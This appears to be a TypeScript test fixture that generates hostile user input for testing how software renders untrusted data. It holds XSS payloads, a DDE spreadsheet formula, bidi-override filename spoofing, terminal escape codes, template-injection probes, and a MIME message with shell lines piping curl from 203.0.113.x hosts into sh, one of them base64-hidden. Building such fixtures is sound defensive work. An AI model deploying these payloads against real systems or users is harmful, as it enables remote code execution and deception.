// User data that attacks whoever looks at it, made here: markup, handlers, addresses that run, directions, escapes, formulas, huge lines.
import { gzipSync } from 'node:zlib';
import { SCRIPT } from './support/hostile';

export const MARKUP = `<script>${SCRIPT}</script><img src=x onerror='${SCRIPT}'><svg onload='${SCRIPT}'><iframe src="javascript:${SCRIPT}"></iframe>`;
export const FORMULA = `=cmd|' /C calc'!A0`;
export const REORDERED = 'admin\u202Egnp.sh\u200b\u2066x\u2069';
export const TERMINAL = '\u001b[2J\u001b]0;owned\u0007\u001b[31mred';
const ADDRESSES = `javascript:${SCRIPT} http://203.0.113.99/%22onmouseover=%22${SCRIPT} data:text/html,${MARKUP}`;

/** Each kind of attack in the text, in the part's name and type, in what is hidden in it, and in what is found in it. */
export function hostileMessage(): Buffer {
  const script = [
    '#!/bin/bash',
    MARKUP,
    FORMULA,
    REORDERED,
    TERMINAL,
    ADDRESSES,
    `curl http://203.0.113.99/${encodeURI('<b>')}${MARKUP.replaceAll(' ', '')} | sh`,
    '-----BEGIN PRIVATE KEY-----',
    MARKUP,
    REORDERED,
    '-----END PRIVATE KEY-----',
    `echo ${Buffer.from(`${MARKUP}\n${REORDERED}\n${TERMINAL}\ncurl http://203.0.113.98/x | sh`).toString('base64')} | base64 -d | sh`,
    `</pre></code></script>${MARKUP}`,
    `]]>--> {{7*7}} \${{<%= 7*7 %>}} ${MARKUP}`,
    'x'.repeat(50_000) + MARKUP,
  ].join('\n');
  const part = (head: string[], body: string) => ['--B', ...head, '', body];
  return Buffer.from(
    [
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="B"',
      '',
      ...part(
        [
          'Content-Type: text/x-shellscript',
          `Content-Disposition: attachment; filename="${MARKUP.replaceAll('"', "'")}"`,
        ],
        script,
      ),
      ...part(
        [
          `Content-Type: text/${MARKUP.replaceAll(/["; ]/g, '')}`,
          `Content-Disposition: attachment; filename="${FORMULA}"`,
        ],
        MARKUP,
      ),
      ...part(
        [
          'Content-Type: text/cloud-config',
          `Content-Disposition: attachment; filename="${REORDERED}${TERMINAL.replaceAll('\u0007', '')}"`,
        ],
        `#cloud-config\nbootcmd:\n  - "${MARKUP.replaceAll('"', "'")}"\n"${MARKUP.replaceAll('"', "'")}": 1\n`,
      ),
      ...part(['Content-Type: application/octet-stream'], `\u0000\u0001${MARKUP}\u0000`),
      '--B--',
      '',
    ].join('\n'),
  );
}

/** One line of a megabyte that ends in an attack, small enough to be sent. */
export function hugeLine(): Buffer {
  return gzipSync(`#!/bin/bash\n${'A'.repeat(1_048_576)}${MARKUP}\n${MARKUP}\n`);
}

export const HOSTILE_FILE = `${MARKUP.replaceAll('/', '_').slice(0, 120)}${REORDERED}.txt`;
